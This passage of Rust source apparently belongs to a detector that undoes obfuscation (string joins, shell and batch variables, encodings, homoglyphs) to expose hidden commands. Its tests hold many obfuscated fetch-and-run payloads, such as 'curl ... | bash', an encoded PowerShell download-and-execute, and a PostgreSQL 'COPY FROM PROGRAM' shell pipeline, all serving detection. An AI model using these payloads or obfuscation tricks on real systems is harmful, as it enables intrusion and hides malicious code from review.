    // Only a `%name%` reads the file's values (most `%` are formats).
    let substituted = if substituted.contains('%') && BATCH_VAR.is_match(&substituted) {
        Cow::Owned(batch_expanded(&substituted, values()))
    } else {
        substituted
    };
    let substituted = NAMED_MEMBER.replace_all(&substituted, ".$1(");
    let substituted = if substituted.contains(".'") || substituted.contains(".\"") {
        Cow::Owned(spaced_dots(&substituted))
    } else {
        substituted
    };
    let joined = CONCAT.replace_all(&substituted, |c: &Captures| concatenated(&c[0], values));
    let joined = if calls {
        joined_calls(&joined, values)
    } else {
        joined.into_owned()
    };
    // `c\u\r\l` needs a pass per overlapping pair.
    let mut text = QUOTED_LETTERS.replace_all(&joined, "$1$2$3").into_owned();
    for _ in 0..3 {
        text = QUOTE_SPLIT.replace_all(&text, "$1$2").into_owned();
    }
    text
}

/// `text` with each named list that `whole` gives its items joined where
/// it is joined ([`NAMED_JOIN`], [`LIST`]); other joins stay.
fn named_joins(text: &str, whole: &str, values: &HashMap<String, String>) -> String {
    let lists: HashMap<&str, &str> = LIST
        .captures_iter(whole)
        .filter_map(|c| Some((c.get(1)?.as_str(), c.get(2)?.as_str())))
        .collect();
    NAMED_JOIN
        .replace_all(text, |c: &Captures| {
            let group = |i: usize| c.get(i).map(|m| m.as_str());
            let (name, separator) = match group(1) {
                Some(name) => (name, group(2).or(group(3)).unwrap_or(",")),
                None => (
                    group(6).unwrap_or_default(),
                    group(4).or(group(5)).unwrap_or_default(),
                ),
            };
            lists.get(name).map_or_else(
                || c[0].to_owned(),
                |items| joined_list(items, separator, values),
            )
        })
        .into_owned()
}

/// A list's items in reverse order (`[a, b][::-1]` is `[b, a]`).
fn reversed_items(items: &str) -> String {
    items.split(',').rev().collect::<Vec<_>>().join(",")
}

/// A PowerShell format's `{n}` filled with its `n`th literal argument, as
/// one quoted string.
fn filled_format(format: &str, args: &str) -> String {
    let args: Vec<&str> = LITERAL
        .captures_iter(args)
        .map(|l| l.get(1).or(l.get(2)).map_or("", |m| m.as_str()))
        .collect();
    let mut out = String::new();
    let mut rest = format;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let close = rest[open..].find('}').map_or(rest.len(), |c| open + c);
        let index: Option<usize> = rest[open + 1..close].parse().ok();
        out.push_str(index.and_then(|i| args.get(i)).copied().unwrap_or_default());
        rest = rest.get(close + 1..).unwrap_or_default();
    }
    out.push_str(rest);
    format!("\"{out}\"")
}

/// A run of literals and names joined by an operator as one quoted string
/// (names by their values); a run of names alone as it is.
fn concatenated<'a>(whole: &str, values: impl Fn() -> &'a HashMap<String, String>) -> String {
    if !whole.contains('\'') && !whole.contains('"') {
        return whole.to_owned();
    }
    let mut out = String::new();
    for token in TOKEN.captures_iter(whole) {
        if let Some(literal) = token.get(1).or(token.get(2)) {
            out.push_str(literal.as_str());
        } else if let Some(name) = token.get(3) {
            out.push_str(values().get(name.as_str()).map_or(name.as_str(), |v| v));
        }
    }
    format!("\"{out}\"")
}

/// Whether `text` names a call join ([`CALL_JOIN`]) anywhere.
fn call_named(text: &str) -> bool {
    ["paste", "printf(", "format(", "concat", "CONCAT", "Concat"]
        .iter()
        .any(|name| text.contains(name))
}

/// `text` with its call joins ([`CALL_JOIN`]) rebuilt, innermost first,
/// each as one quoted string; `values` are called only for a text with a
/// call join.
fn joined_calls<'a>(text: &str, values: impl Fn() -> &'a HashMap<String, String>) -> String {
    let mut text = text.to_owned();
    // Two levels: `paste0("https://", paste(c(…), collapse = "."), "/u")`.
    for _ in 0..2 {
        if !CALL_JOIN.is_match(&text) {
            break;
        }
        text = CALL_JOIN
            .replace_all(&text, |c: &Captures| joined_call(c, values()))
            .into_owned();
    }
    text
}

fn joined_call(c: &Captures, values: &HashMap<String, String>) -> String {
    let quoted = |i: usize, j: usize| c.get(i).or(c.get(j)).map_or("", |m| m.as_str());
    let before = &c[1];
    if let Some(items) = c.get(4) {
        return format!(
            "{before}{}",
            joined_list(items.as_str(), quoted(5, 6), values)
        );
    }
    let args = &c[3];
    let joined = match c[2].to_ascii_lowercase().as_str() {
        "concat_ws" => match args.split_once(',') {
            Some((separator, items)) => {
                let separator = LITERAL.captures(separator).map_or(String::new(), |l| {
                    l.get(1).or(l.get(2)).map_or("", |m| m.as_str()).to_owned()
                });
                joined_list(items, &separator, values)
            }
            None => return c[0].to_owned(),
        },
        "concat" | "paste0" => joined_list(args, "", values),
        "paste" => match SEP.captures(args) {
            Some(sep) => {
                let items = &args[..sep.get(0).expect("a match").start()];
                let separator = sep.get(1).or(sep.get(2)).map_or("", |m| m.as_str());
                joined_list(items, separator, values)
            }
            None => joined_list(args, " ", values),
        },
        _ => match formatted(args, values) {
            Some(text) => text,
            None => return c[0].to_owned(),
        },
    };
    format!("{before}{joined}")
}

/// `sprintf("… %s …", a, …)` / `format('… %L …', a)` with its arguments
/// put in, in order; nothing when the format is not a literal.
fn formatted(args: &str, values: &HashMap<String, String>) -> Option<String> {
    let first = LITERAL.captures(args)?;
    let whole = first.get(0).expect("a match");
    if !args[..whole.start()].trim().is_empty() {
        return None;
    }
    let format = first.get(1).or(first.get(2))?.as_str();
    let rest = args[whole.end()..]
        .trim_start()
        .strip_prefix(',')
        .unwrap_or("");
    let joined = joined_list(rest, "\u{0}", values);
    let mut parts = joined.trim_matches('"').split("\u{0}");
    let mut out = String::new();
    let mut pieces = format.split('%');
    out.push_str(pieces.next().unwrap_or_default());
    for piece in pieces {
        match piece.chars().next() {
            Some('s' | 'd' | 'L' | 'I') => {
                out.push_str(parts.next().unwrap_or_default());
                out.push_str(&piece[1..]);
            }
            _ => {
                out.push('%');
                out.push_str(piece);
            }
        }
    }
    Some(format!("\"{out}\""))
}

/// The values the assignments of `whole` give its variables: plain
/// assignments, every one of a shell declaration, escapes printed into a
/// variable (decoded) and, with `expressions`, R's and PL/pgSQL's
/// assignments of an expression (its joins undone).
fn assignments(whole: &str, expressions: bool) -> HashMap<String, String> {
    let value = |c: &Captures, first: usize| {
        (first..first + 3)
            .find_map(|i| c.get(i))
            .map_or("", |m| m.as_str())
            .to_owned()
    };
    // In file order: a batch file's `set h=%h%.com` grows what it had.
    let mut values: HashMap<String, String> = HashMap::new();
    for c in ASSIGNMENT.captures_iter(whole) {
        let rest = &whole[c.get(0).map_or(0, |m| m.end())..];
        let quoted = c.get(4).is_none();
        let value = value(&c, 2)
            + &adjacent_pieces(rest)
            + &(if quoted {
                joined_pieces(rest)
            } else {
                String::new()
            });
        let value = if value.contains('%') {
            batch_expanded(&value, &values)
        } else {
            value
        };
        values.insert(c[1].to_owned(), value);
    }
    // Every declaration holds one of its four words verbatim: a text with
    // none is not searched for one (on the corpus that search was the
    // costliest pass here).
    let has = |word: &str| memchr::memmem::find(whole.as_bytes(), word.as_bytes()).is_some();
    let declares = ["local", "declare", "export", "readonly"]
        .into_iter()
        .any(has);
    if declares {
        for declaration in DECLARATION.captures_iter(whole) {
            for c in WORD_ASSIGNMENT.captures_iter(&declaration[1]) {
                values
                    .entry(c[1].to_owned())
                    .or_insert_with(|| value(&c, 2));
            }
        }
    }
    if has("+=") {
        for c in APPEND.captures_iter(whole) {
            let more = value(&c, 2);
            values.entry(c[1].to_owned()).or_default().push_str(&more);
        }
    }
    // An expression's value is its joins undone, with the values the
    // lines above it gave (in file order: a later line reads an earlier).
    if expressions {
        let assigning = |line: &&str| line.contains("<-") || line.contains(":=");
        for c in whole
            .lines()
            .filter(assigning)
            .filter_map(|l| EXPRESSION.captures(l))
        {
            let expression =
                CONCAT.replace_all(&c[2], |j: &Captures| concatenated(&j[0], || &values));
            let value = joined_calls(&expression, || &values);
            let value = value.trim().trim_end_matches([',', ')']).trim();
            if let Some(literal) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
                values.insert(c[1].to_owned(), literal.to_owned());
            }
        }
    }
    for c in PRINTED.captures_iter(whole) {
        if let Ok(text) = String::from_utf8(escape_bytes(&c[2])) {
            values.insert(c[1].to_owned(), text);
        }
    }
    // hide84: a value built of other variables (`c="${a}${b}"`) reads
    // with theirs, one level deep.
    if values.values().any(|v| v.contains('$')) {
        let given = values.clone();
        for value in values.values_mut().filter(|v| v.contains('$')) {
            *value = SHELL_VAR
                .replace_all(value, |c: &Captures| {
                    given
                        .get(shell_var_name(c))
                        .cloned()
                        .unwrap_or_else(|| c[0].to_owned())
                })
                .into_owned();
        }
    }
    values
}

/// The quoted pieces written right after an assignment's value (`"rl"`
/// of `w="cu""rl"`): one word to the shell. A "piece" that opens with a
/// space or runs over a line is the gap after a quoted assignment's own
/// closing quote (`set "b=sh"` then the next line), not a piece.
fn adjacent_pieces(rest: &str) -> String {
    let mut out = String::new();
    let mut rest = rest;
    while let Some(quote) = rest.chars().next().filter(|c| matches!(c, '\'' | '"')) {
        let Some(close) = rest[1..].find(quote) else {
            break;
        };
        let piece = &rest[1..1 + close];
        if piece.contains('\n') || piece.starts_with(char::is_whitespace) {
            break;
        }
        out.push_str(piece);
        rest = &rest[close + 2..];
    }
    out
}

/// The quoted pieces an operator joins to a quoted assignment's value on
/// its line (`$f = 'Do' + 'wnl' + 'oadString'`, PHP's `'cu' . 'rl'`):
/// code85, a name whose value is assembled reads as the whole of it where
/// it is used, lines below.
fn joined_pieces(rest: &str) -> String {
    let mut out = String::new();
    let mut rest = rest;
    while let Some(c) = JOINED_PIECE.captures(rest) {
        out.push_str(c.get(1).or(c.get(2)).map_or("", |m| m.as_str()));
        rest = &rest[c.get(0).map_or(rest.len(), |m| m.end())..];
    }
    out
}

/// `text` with each tight `.` join ([`DOT_OPERAND`]) spaced out.
fn spaced_dots(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    let mut copied = 0;
    for operand in DOT_OPERAND.find_iter(text) {
        let rest = &text[operand.end()..];
        if rest.starts_with('.') && rest[1..].starts_with(['\'', '"', '$']) {
            out.push_str(&text[copied..operand.end()]);
            out.push_str(" . ");
            copied = operand.end() + 1;
        }
    }
    out.push_str(&text[copied..]);
    out
}

/// `text` with the batch variables `values` knows expanded; others stay.
fn batch_expanded(text: &str, values: &HashMap<String, String>) -> String {
    BATCH_VAR
        .replace_all(text, |c: &Captures| {
            values
                .get(&c[1])
                .cloned()
                .unwrap_or_else(|| c[0].to_owned())
        })
        .into_owned()
}

/// A joined list as one quoted string: literals as they are, variables by
/// their values, any other expression by its last literal (the default of
/// `os.environ.get("SHELL", "sh")`).
fn joined_list(items: &str, separator: &str, values: &HashMap<String, String>) -> String {
    let mut depth = 0usize;
    let mut parts = vec![String::new()];
    for c in items.chars() {
        match c {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth = depth.saturating_sub(1),
            ',' if depth == 0 => {
                parts.push(String::new());
                continue;
            }
            _ => {}
        }
        parts.last_mut().expect("one part at least").push(c);
    }
    let resolved: Vec<String> = parts
        .iter()
        .map(|part| {
            let part = part.trim();
            if let Some(value) = values.get(part) {
                return value.clone();
            }
            if !part.starts_with(['\'', '"']) && names_home(part) {
                return "~".to_owned();
            }
            LITERAL
                .captures_iter(part)
                .last()
                .and_then(|c| c.get(1).or(c.get(2)))
                .map_or_else(|| part.to_owned(), |m| m.as_str().to_owned())
        })
        .collect();
    format!("\"{}\"", resolved.join(separator))
}

/// Whether an expression is the user's home, however the language asks
/// for it (`process.env.HOME`, `os.environ["USERPROFILE"]`, `os.homedir()`,
/// `Path.home()`). code85: `HOME` counts only as a whole name, since
/// `CARGO_HOME`, `JAVA_HOME` or `HOMEBREW_PREFIX` name other folders.
fn names_home(part: &str) -> bool {
    let whole_name = |name: &str| {
        part.match_indices(name).any(|(at, _)| {
            let name_byte = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
            !part.as_bytes()[..at].last().is_some_and(name_byte)
                && !part.as_bytes().get(at + name.len()).is_some_and(name_byte)
        })
    };
    part.contains("homedir()")
        || part.ends_with("home()")
        || whole_name("HOME")
        || whole_name("USERPROFILE")
}

/// `text` as it reads ([`fold`]); ASCII reads as itself, and is copied
/// by runs (a character at a time cost more than the rules).
fn folded(text: &str) -> Cow<'_, str> {
    if text.is_ascii() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = first_beyond_ascii(rest.as_bytes()) {
        out.push_str(&rest[..at]);
        let c = rest[at..].chars().next().expect("a character starts there");
        out.extend(fold(c));
        rest = &rest[at + c.len_utf8()..];
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Where `bytes`' first byte beyond ASCII stands: skipped sixteen bytes
/// at a time (`<[u8]>::is_ascii` reads a word at once), where a byte at
/// a time cost more than folding.
fn first_beyond_ascii(bytes: &[u8]) -> Option<usize> {
    let mut at = 0;
    while bytes.get(at..at + 16).is_some_and(<[u8]>::is_ascii) {
        at += 16;
    }
    bytes[at..]
        .iter()
        .position(|b| !b.is_ascii())
        .map(|p| at + p)
}

/// A character that takes no room where it stands (zero-width spaces and
/// joiners, invisible operators, the byte-order mark): text spelled in
/// such characters is hidden from a reader.
pub fn is_zero_width(c: char) -> bool {
    matches!(c as u32, 0x200B..=0x200D | 0x2060..=0x2064 | 0xFEFF | 0x180E)
}

/// One character as it reads: tag characters revealed, zero-width ones
/// dropped, homoglyphs and full-width forms (the ideographic space too)
/// folded to ASCII.
fn fold(c: char) -> Option<char> {
    let code = c as u32;
    Some(match code {
        0xE0020..=0xE007E => char::from_u32(code - 0xE0000)?,
        0xE0000..=0xE007F => return None,
        _ if is_zero_width(c) => return None,
        0xFF01..=0xFF5E => char::from_u32(code - 0xFEE0)?,
        // The ideographic space between full-width words (style83).
        0x3000 => ' ',
        _ => match c {
            'а' | 'α' => 'a',
            'е' | 'ε' => 'e',
            'о' | 'ο' | 'σ' => 'o',
            'р' | 'ρ' => 'p',
            'с' | 'ϲ' => 'c',
            'у' | 'γ' => 'y',
            'х' | 'χ' => 'x',
            'і' | 'ι' => 'i',
            'ј' => 'j',
            'ѕ' => 's',
            'ԁ' => 'd',
            'һ' => 'h',
            'ⅼ' | 'ӏ' => 'l',
            'ν' => 'v',
            'А' | 'Α' => 'A',
            'В' | 'Β' => 'B',
            'Е' | 'Ε' => 'E',
            'К' | 'Κ' => 'K',
            'М' | 'Μ' => 'M',
            'Н' | 'Η' => 'H',
            'О' | 'Ο' => 'O',
            'Р' | 'Ρ' => 'P',
            'С' => 'C',
            'Т' | 'Τ' => 'T',
            'Х' | 'Χ' => 'X',
            _ => c,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_decode() {
        let text = "x = 'Y3VybCBodHRwOi8vMS4yLjMuNC94IHwgYmFzaA=='\ny = '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70'\nz = String.fromCharCode(99,117,114,108,32,104,116,116,112)\nw = 'hsab | x/4.3.2.1//:ptth lruc'[::-1]\n";
        let decoded = decoded_literals(text);
        assert!(decoded.contains(&(0, "curl http://1.2.3.4/x | bash".to_owned())));
        assert!(decoded.contains(&(1, "curl http".to_owned())));
        assert!(decoded.iter().any(|(l, d)| *l == 2 && d == "curl http"));
        assert!(decoded.contains(&(3, "curl http://1.2.3.4/x | bash".to_owned())));
        // Searched in the whole text, found on the same lines, in order,
        // whatever ends the lines.
        let crlf = format!("# head\r\n\r\n{}", text.replace('\n', "\r\n"));
        let shifted: Vec<(usize, String)> = decoded.into_iter().map(|(l, d)| (l + 2, d)).collect();
        assert_eq!(decoded_literals(&crlf), shifted);
    }

    #[test]
    fn a_name_given_joined_pieces_reads_whole_where_it_is_used() {
        // code85: PowerShell's method name and address in pieces, used by
        // name two lines below.
        let whole = "$m = 'Down' + 'load' + 'String'\n$u = 'https://' + 'x.example.com/i.ps1'\n$c = New-Object Net.WebClient\n$b = $c.$m($u)\n";
        let used = normalize_with("$b = $c.$m($u)", whole);
        assert!(
            used.contains("DownloadString(https://x.example.com/i.ps1)"),
            "{used}"
        );
        // A piece joined to a name (`'a' + $x`) is no literal join.
        assert_eq!(assignments("$p = 'C:' + $root\n", false)["p"], "C:");
    }

    #[test]
    fn only_the_home_variables_read_as_the_home() {
        // code85: a joined path under `CARGO_HOME` is not the user's home.
        let values = HashMap::new();
        for home in [
            "process.env.HOME",
            "os.environ['USERPROFILE']",
            "os.homedir()",
            "Path.home()",
        ] {
            assert_eq!(
                joined_list(&format!("{home}, '.ssh'"), "/", &values),
                "\"~/.ssh\""
            );
        }
        for other in ["process.env.CARGO_HOME", "env.JAVA_HOME", "HOMEBREW_PREFIX"] {
            assert_ne!(
                joined_list(&format!("{other}, '.ssh'"), "/", &values),
                "\"~/.ssh\""
            );
        }
    }

    #[test]
    fn char_codes_moved_by_their_decoder_decode() {
        let text = "const SEED = [106,124,121,115,39,52,122,39,111,123,123,119,122,65,54,54];\nconst decode = (xs) => String.fromCharCode(...xs.map(x => x - 7));\n";
        assert!(decoded_literals(text).contains(&(0, "curl -s https://".to_owned())));
        let python = "k = [102, 120, 117, 111, 35, 107, 119, 119, 115]\ncmd = ''.join(chr(c - 3) for c in k)\n";
        assert!(decoded_literals(python).contains(&(0, "curl http".to_owned())));
        let xor = "k = [73, 95, 88, 70, 10, 66, 94, 94, 90]\ns = bytes(c ^ 42 for c in k)\n";
        assert!(decoded_literals(xor).contains(&(0, "curl http".to_owned())));
        let ruby =
            "k = [73, 95, 88, 70, 10, 66, 94, 94, 90]\ns = k.map { |c| (c ^ 42).chr }.join\n";
        assert!(decoded_literals(ruby).contains(&(0, "curl http".to_owned())));
    }

    #[test]
    fn a_move_by_a_named_constant_decodes_and_an_unset_name_does_not() {
        // Batch 67: `n - SEED` with `const SEED = 13;` given on its own.
        let codes = "const T = [112,130,127,121,45,58,128,45,117,129,129,125,128];\n";
        let named = format!(
            "const SEED = 13;\n{codes}const l = T.map((n) => String.fromCharCode(n - SEED)).join('');\n"
        );
        assert!(decoded_literals(&named).contains(&(1, "curl -s https".to_owned())));
        let unset =
            format!("{codes}const l = T.map((n) => String.fromCharCode(n - seed())).join('');\n");
        assert!(
            !decoded_literals(&unset)
                .iter()
                .any(|(_, d)| d.contains("curl"))
        );
    }

    #[test]
    fn powershell_formats_and_sliced_joins_are_undone() {
        assert_eq!(
            normalize("& (gcm ('{0}-{1}' -f 'Invoke','RestMethod')) -Uri $u"),
            "& (gcm (\"Invoke-RestMethod\")) -Uri $u"
        );
        // A format whose argument is not a literal stays as written.
        assert_eq!(normalize("'{0}.log' -f $name"), "'{0}.log' -f $name");
        assert_eq!(
            normalize("f = getattr(m, \"\".join([\"ex\", \"ec\"][::1]))"),
            "f = getattr(m, \"exec\")"
        );
        assert_eq!(
            normalize("f = getattr(m, \"\".join([\"ec\", \"ex\"][::-1]))"),
            "f = getattr(m, \"exec\")"
        );
    }

    #[test]
    fn powershell_encoded_commands_read_as_utf16() {
        let text = "powershell -EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxAC4AMgAuADMALgA0AC8AcAAuAHAAcwAxACkA";
        let decoded = decoded_literals(text);
        assert!(decoded.contains(&(0, "iex (iwr http://1.2.3.4/p.ps1)".to_owned())));
    }

    #[test]
    fn hashes_are_not_text() {
        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(decoded_literals(sha).is_empty());
    }

    /// The lines `code_lines` and `reversed_lines` keep hold every line
    /// their regexes match alone, in every spelling of a code or a
    /// reversal the regexes read (other scripts' digits, wide spaces, a
    /// match that starts inside one over two lines).
    #[test]
    fn the_kept_lines_hold_every_line_a_regex_matches() {
        let text = "x = [99, 117, 114, 108]\nchr( 99 )+chr(117)\nfromCharCode(\u{a0}99\u{3000}, 1)\n\
                    [char] 105 + [char]101\n[\u{663}\u{664}, \u{ff11}\u{ff12}]\n, 12\u{2003}]\n\
                    (99, 117) r(12, 34)\n10, 20 and 1234, 5678\n\
                    'abcdefgh'\n[::-1] 'ijklmnopq'[::-1]\ns = 'tacobell' | rev\n\
                    \"reversed!\".split('').reverse().join('')\n'no quote end [::-1]\n\
                    echo 'abcdefghi' |\u{a0}rev\n'12345678'  |  revise";
        let lines = Lines::new(text);
        let codes = code_lines(text, &lines);
        let reversed = reversed_lines(text, &lines, &reverse_spelled(text));
        for (number, line) in text.lines().enumerate() {
            if CHAR_CODES.is_match(line) {
                assert!(codes.contains(&number), "codes on {number}: {line}");
            }
            if REVERSED.is_match(line) {
                assert!(reversed.contains(&number), "reversed on {number}: {line}");
            }
        }
        assert!(
            codes.len() >= 6 && reversed.len() >= 4,
            "{codes:?} {reversed:?}"
        );
        let plain = "Pick one, two or three (10 of them)\nthe reverse of that";
        let lines = Lines::new(plain);
        assert!(code_lines(plain, &lines).is_empty());
        assert!(reversed_lines(plain, &lines, &reverse_spelled(plain)).is_empty());
    }

    #[test]
    fn assembly_is_undone() {
        assert_eq!(normalize("c''url x | b\"\"ash"), "curl x | bash");
        assert_eq!(
            normalize("w'g'et x; a=cu; b=rl; $a$b"),
            "wget x; a=cu; b=rl; curl"
        );
        assert_eq!(normalize("cmd = 'cu' + 'rl'"), "cmd = \"curl\"");
        assert_eq!(normalize("a=cu\nb=rl\n$a$b x"), "a=cu\nb=rl\ncurl x");
        assert_eq!(
            normalize("h=ex\nh+=ample.net\nh+='/i'\ncurl $h"),
            "h=ex\nh+=ample.net\nh+='/i'\ncurl example.net/i"
        );
        // VBScript and AppleScript join with `&`, SQL with `||`.
        assert_eq!(
            normalize("b = \"chm\" & \"od 47\" & \"55 \" & dest"),
            "b = \"chmod 4755 dest\""
        );
        assert_eq!(normalize("t := 'wg' || 'et';"), "t := \"wget\";");
        assert_eq!(normalize("сurl"), "curl");
        assert_eq!(
            normalize("p = '/dev/' + 'tcp/' + host"),
            "p = \"/dev/tcp/host\""
        );
    }

    #[test]
    fn rust_concat_and_go_join_are_undone() {
        assert_eq!(
            normalize("let run = [\"cu\", \"rl -s https://x.example.net/a | s\", \"h\"].concat();"),
            "let run = \"curl -s https://x.example.net/a | sh\";"
        );
        assert_eq!(
            normalize("bin := strings.Join([]string{\"xm\", \"rig\"}, \"\")"),
            "bin := \"xmrig\""
        );
    }

    #[test]
    fn batch_variables_and_tight_dots_are_undone() {
        let cmd = "set a=power\nset \"b=sh\"\nset \"b=%b%ell\"\n%a%%b% -c \"$w.('Get')(u)\"";
        let lines: Vec<String> = normalize(cmd).lines().map(str::to_owned).collect();
        assert_eq!(lines[3], "powershell -c \"$w.Get(u)\"");
        assert_eq!(
            normalize("system('cu'.'rl'.' -s x');"),
            "system(\"curl -s x\");"
        );
        assert_eq!(normalize("split('.')"), "split('.')");
    }

    #[test]
    fn sql_and_r_call_joins_are_undone() {
        let sql = "DECLARE\n  t text := 'wg' || 'et';\n  h text := 'x.exam' || 'ple.net/i';\n  r text := concat_ws(' ', t, '-qO-', h, '|', 's' || 'h');\n  EXECUTE format('COPY o FROM PROGRAM %L', r);";
        let lines: Vec<String> = normalize(sql).lines().map(str::to_owned).collect();
        assert_eq!(lines[3], "  r text := \"wget -qO- x.example.net/i | sh\";");
        assert_eq!(
            lines[4],
            "  EXECUTE \"COPY o FROM PROGRAM wget -qO- x.example.net/i | sh\";"
        );
        let r = "u <- paste0(\"https://\", paste(c(\"x\", \"example\", \"net\"), collapse = \".\"), \"/u\")\nt <- paste(c(\"cu\", \"rl\"), collapse = \"\")\njob <- sprintf(\"%s -fsS %s | %s\", t, u, paste0(\"s\", \"h\"))\nw <- paste(\"a\", \"b\", sep = \"-\")";
        let lines: Vec<String> = normalize(r).lines().map(str::to_owned).collect();
        assert_eq!(lines[0], "u <- \"https://x.example.net/u\"");
        assert_eq!(
            lines[2],
            "job <- \"curl -fsS https://x.example.net/u | sh\""
        );
        assert_eq!(lines[3], "w <- \"a-b\"");
        assert_eq!(
            normalize("  r text := CONCAT('cu', 'rl -s x | ', 'sh');"),
            "  r text := \"curl -s x | sh\";"
        );
        // A format that is not a literal stays as it is.
        assert_eq!(normalize("s = format(fmt, x)"), "s = format(fmt, x)");
    }

    #[test]
    fn lists_indirection_and_printed_escapes_are_resolved() {
        assert_eq!(
            normalize(
                "F = \"curl -s\"\nU = \"https://x.example.net/i\"\nrun(\" \".join([F, U, \"|\", os.environ.get(\"SHELL\", \"sh\")]))"
            ),
            "F = \"curl -s\"\nU = \"https://x.example.net/i\"\nrun(\"curl -s https://x.example.net/i | sh\")"
        );
        assert_eq!(
            normalize(
                "x([c, 'https://x.example.net/i', '|', 'sh'].join(' '))\nconst c = 'wget -qO-'"
            ),
            "x(\"wget -qO- https://x.example.net/i | sh\")\nconst c = 'wget -qO-'"
        );
        assert_eq!(
            normalize("local t=curl r=bash\nlocal f=t g=r\n${!f} -s u | ${!g}"),
            "local t=curl r=bash\nlocal f=t g=r\ncurl -s u | bash"
        );
        assert_eq!(
            normalize(
                "t=curl\nr=sh\nlocal f=t g=r\n\"${!f}\" -s u | \"${!g}\" >/dev/null; \"$r\" x \"$HOME\""
            ),
            "t=curl\nr=sh\nlocal f=t g=r\ncurl -s u | sh >/dev/null; sh x \"$HOME\""
        );
        let printed = normalize("c=$(printf %b '\\x63\\x75\\x72\\x6c')\n$c -s u");
        assert_eq!(printed.lines().last(), Some("curl -s u"));
        let bare = normalize("t='\\143\\165\\162\\154'\nprintf '%b' \"$t\" -s u");
        assert_eq!(bare.lines().last(), Some("printf '%b' curl -s u"));
    }
}
